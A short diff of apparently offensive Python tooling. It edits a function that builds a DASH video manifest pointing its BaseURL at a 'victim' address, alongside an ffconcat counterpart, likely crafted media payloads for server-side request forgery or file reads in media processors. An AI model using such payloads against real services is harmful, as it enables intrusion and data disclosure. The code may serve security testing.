@@ -21,7 +21,7 @@ def ffconcat(victim: str) -> bytes:
 def dash(victim: str) -> bytes:
     """Return a DASH manifest whose base is `victim`."""
     return (
-        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S">'
+        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
         '<Period><AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1">'
         f"<BaseURL>{victim}</BaseURL></Representation></AdaptationSet></Period></MPD>"
     ).encode()
